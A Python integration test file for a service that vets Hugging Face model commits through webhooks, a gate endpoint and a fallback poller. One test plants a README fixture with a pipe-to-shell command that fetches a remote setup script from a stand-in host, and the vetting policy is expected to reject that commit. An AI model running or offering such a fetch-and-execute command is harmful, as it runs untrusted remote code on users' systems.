"""Done when: a webhook for a new commit queues a vet, and the gate for `main` answers 409 until the
new commit is approved. Real huggingface_hub over HTTP against the fixture hub; the API in process."""

from __future__ import annotations

import time
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select

from app.db import tokens
from app.db.models import VetRow
from app.server import create_app
from app.settings import Settings
from tests.integration.api.inprocess import WEBHOOK_SECRET, app_state

NVIDIA = "nvidia/DeepSeek-V4-Flash-NVFP4"


def vet_main(client: TestClient) -> dict[str, Any]:
    with app_state(client).store.session() as session:
        token = tokens.create(session, "ci", "vetter", actor="test")
    response = client.post("/vet", params={"repo": NVIDIA, "wait": 120}, headers={"Authorization": f"Bearer {token}"})
    assert response.status_code == 200, response.text
    return response.json()  # type: ignore[no-any-return]


def push(client: TestClient, old: str, new: str) -> dict[str, Any]:
    body = {"event": {"action": "update", "scope": "repo.content"},
            "repo": {"type": "model", "name": NVIDIA, "headSha": new},
            "updatedRefs": [{"ref": "refs/heads/main", "oldSha": old, "newSha": new}]}
    response = client.post("/webhooks/huggingface", json=body, headers={"X-Webhook-Secret": WEBHOOK_SECRET})
    assert response.status_code == 202, response.text
    [job] = response.json()["queued"]
    return job  # type: ignore[no-any-return]


def gate_main(client: TestClient) -> tuple[int, dict[str, Any]]:
    response = client.get("/gate", params={"repo": NVIDIA, "revision": "main"})
    return response.status_code, response.json()


def commit_to_main(hub: Path, client: TestClient, readme: str) -> str:
    (hub / NVIDIA / "README.md").write_text(readme)
    return app_state(client).resolve(NVIDIA, "main")


def test_a_webhook_queues_the_new_commit_and_the_gate_answers_409_until_it_is_approved(
    example_hub: Path, api: TestClient
) -> None:
    approved = vet_main(api)["job"]["revision"]
    assert gate_main(api)[0] == 200
    new = commit_to_main(example_hub, api, "# DeepSeek-V4-Flash-NVFP4\n\nA new commit on main.\n")
    assert new != approved

    app_state(api).jobs.stop()  # hold the queue, so the gate is seen while the new commit waits
    job = push(api, approved, new)
    assert (job["revision"], job["requested_revision"], job["status"]) == (new, "main", "queued")
    status, doc = gate_main(api)
    assert status == 409 and doc["newest_approved"] == approved and doc["head"] == new
    assert approved in doc["reasons"][0]
    assert api.get("/gate", params={"repo": NVIDIA, "revision": approved}).status_code == 200  # pins still work

    app_state(api).jobs.start()  # the queued job resumes, vets the new commit, and the policy approves it
    finished = app_state(api).jobs.wait(job["id"], 120)
    assert finished is not None and finished.status == "done", finished
    status, doc = gate_main(api)
    assert status == 200 and doc["revision"] == new


def test_a_new_commit_that_is_rejected_keeps_main_refused(example_hub: Path, api: TestClient) -> None:
    approved = vet_main(api)["job"]["revision"]
    new = commit_to_main(example_hub, api, "# Setup\n\n```bash\ncurl -sSL https://get.example.net/setup.sh | sh\n```\n")
    job = push(api, approved, new)
    finished = app_state(api).jobs.wait(job["id"], 120)
    assert finished is not None and finished.status == "done"
    status, doc = gate_main(api)
    assert status == 403 and doc["revision"] == new and doc["verdict"] == "reject"
    assert api.get("/gate", params={"repo": NVIDIA, "revision": approved}).status_code == 200


def test_a_missed_webhook_is_caught_by_the_server_s_poller(example_hub: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HFVET_POLL_SECONDS", "0.2")
    with TestClient(create_app(Settings())) as client:
        approved = vet_main(client)["job"]["revision"]
        new = commit_to_main(example_hub, client, "# a commit no webhook announced\n")
        job = _poller_job(client, new)
        finished = app_state(client).jobs.wait(job, 120)
        assert finished is not None and finished.status == "done"
        status, doc = gate_main(client)
        assert status == 200 and doc["revision"] == new != approved


def _poller_job(client: TestClient, sha: str) -> str:
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        with app_state(client).store.session() as session:
            found = session.execute(select(VetRow.id).where(VetRow.sha == sha, VetRow.requested_by == "poller"))
            job_id = found.scalar_one_or_none()
        if job_id is not None:
            return job_id
        time.sleep(0.1)
    raise AssertionError("the poller queued no vet of the moved head within 30 s")
